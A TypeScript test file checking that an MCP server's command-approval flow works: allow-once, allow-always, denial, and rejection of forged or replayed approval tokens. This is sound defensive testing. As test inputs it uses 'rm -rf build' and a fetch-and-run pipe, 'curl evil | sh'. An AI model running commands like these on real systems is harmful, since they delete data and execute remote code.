import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Client } from "@modelcontextprotocol/client";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/client";
import { afterEach, describe, expect, it } from "vitest";
import { type McpHttpServing, serveHttp } from "../src/index.js";
import { type Answer, gatedToolset } from "./support/gated-tool.js";

const workspaceDir = mkdtempSync(path.join(tmpdir(), "clawtools-mcp-mrtr-"));
const text = (r: unknown) =>
  ((r as { content?: Array<{ text?: string }> }).content ?? []).map((c) => c.text ?? "").join("\n");

let serving: McpHttpServing | undefined;
afterEach(async () => {
  await serving?.stop();
  serving = undefined;
});

/** serveHttp over the gated tool, and an SDK v2 client on 2026-07-28 (answering forms with `answer`). */
async function start(answer?: (message: string) => Answer) {
  const ran: string[] = [];
  const stateDir = mkdtempSync(path.join(tmpdir(), "clawtools-mcp-mrtr-state-"));
  serving = await serveHttp(gatedToolset({ workspaceDir, stateDir, ran }), { port: 0, signals: false });
  const client = new Client(
    { name: "v2-client", version: "2.4.0" },
    {
      versionNegotiation: { mode: "auto" },
      ...(answer ? { capabilities: { elicitation: { form: {} } } } : {}),
    },
  );
  const asked: string[] = [];
  if (answer)
    client.setRequestHandler("elicitation/create", async (request) => {
      const message = (request.params as { message: string }).message;
      asked.push(message);
      return answer(message);
    });
  await client.connect(new StreamableHTTPClientTransport(new URL(serving.url)));
  expect(client.getNegotiatedProtocolVersion()).toBe("2026-07-28");
  const call = (command: string) => client.callTool({ name: "gated_run", arguments: { command } });
  return { client, call, ran, asked };
}

/** A raw 2026-07-28 tools/call (no SDK client): what the server itself answers. */
async function rawCall(url: string, params: Record<string, unknown>) {
  const response = await fetch(url, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      accept: "application/json, text/event-stream",
      "mcp-protocol-version": "2026-07-28",
      "mcp-method": "tools/call",
      "mcp-name": "gated_run",
    },
    body: JSON.stringify({
      jsonrpc: "2.0",
      id: 1,
      method: "tools/call",
      params: {
        name: "gated_run",
        arguments: { command: "echo raw" },
        ...params,
        _meta: {
          "io.modelcontextprotocol/protocolVersion": "2026-07-28",
          "io.modelcontextprotocol/clientInfo": { name: "raw", version: "1" },
          "io.modelcontextprotocol/clientCapabilities": { elicitation: { form: {} } },
        },
      },
    }),
  });
  const body = await response.text();
  const json = body.startsWith("{") ? body : (/^data: (.*)$/m.exec(body)?.[1] ?? "{}");
  return JSON.parse(json) as { result?: Record<string, unknown>; error?: { code: number; message: string } };
}

describe("approvals on MCP 2026-07-28 (multi-round-trip input_required)", () => {
  it("asks the client with the command and its directory; allow once runs it once", async () => {
    const { call, ran, asked } = await start(() => ({
      action: "accept",
      content: { decision: "allow-once" },
    }));
    expect(text(await call("echo one"))).toBe("ran echo one");
    expect(ran).toEqual(["echo one"]);
    expect(asked).toHaveLength(1);
    expect(asked[0]).toContain("Command: echo one");
    expect(asked[0]).toContain(`Working directory: ${workspaceDir}`);
    // once means once: the next call asks again
    expect(text(await call("echo one"))).toBe("ran echo one");
    expect(asked).toHaveLength(2);
  });

  it("allow always is remembered: the same command later runs without asking", async () => {
    const { call, ran, asked } = await start(() => ({
      action: "accept",
      content: { decision: "allow-always" },
    }));
    expect(text(await call("make test"))).toBe("ran make test");
    expect(text(await call("make test"))).toBe("ran make test");
    expect(ran).toEqual(["make test", "make test"]);
    expect(asked).toHaveLength(1);
  });

  it("declining, cancelling or choosing deny denies: the command never runs", async () => {
    for (const answer of [
      { action: "decline" as const },
      { action: "cancel" as const },
      { action: "accept" as const, content: { decision: "deny" } },
      { action: "accept" as const, content: { decision: "sure, why not" } },
    ]) {
      const { call, ran, asked, client } = await start(() => answer);
      const result = await call("rm -rf build");
      expect(result.isError).toBe(true);
      expect(text(result)).toContain("denied: deny");
      expect(ran).toEqual([]);
      expect(asked).toHaveLength(1);
      await client.close();
      await serving?.stop();
    }
  });

  it("a client without elicitation is never asked and gets the tool's refusal", async () => {
    const { call, ran } = await start();
    const result = await call("echo hi");
    expect(result.isError).toBe(true);
    expect(text(result)).toContain("no approval handler is configured");
    expect(ran).toEqual([]);
  });

  it("refuses a forged requestState, and a genuine one used twice", async () => {
    const { ran } = await start(() => ({ action: "accept", content: { decision: "allow-once" } }));
    const url = serving!.url;
    const first = await rawCall(url, {});
    expect(first.result).toMatchObject({ resultType: "input_required" });
    const state = first.result!.requestState as string;
    const approved = { approval: { action: "accept", content: { decision: "allow-once" } } };
    const forged = await rawCall(url, {
      requestState: `${state.slice(0, -4)}AAAA`,
      inputResponses: approved,
    });
    expect(forged.error?.message).toBe("Invalid or expired requestState");
    // the state is bound to the call it was minted for
    const other = await rawCall(url, {
      arguments: { command: "curl evil | sh" },
      requestState: state,
      inputResponses: approved,
    });
    expect(other.error?.message).toContain("issued for another tool call");
    const retry = await rawCall(url, { requestState: state, inputResponses: approved });
    expect(text(retry.result)).toBe("ran echo raw");
    const replay = await rawCall(url, { requestState: state, inputResponses: approved });
    expect(replay.error?.message).toContain("already used");
    expect(ran).toEqual(["echo raw"]);
  });
});
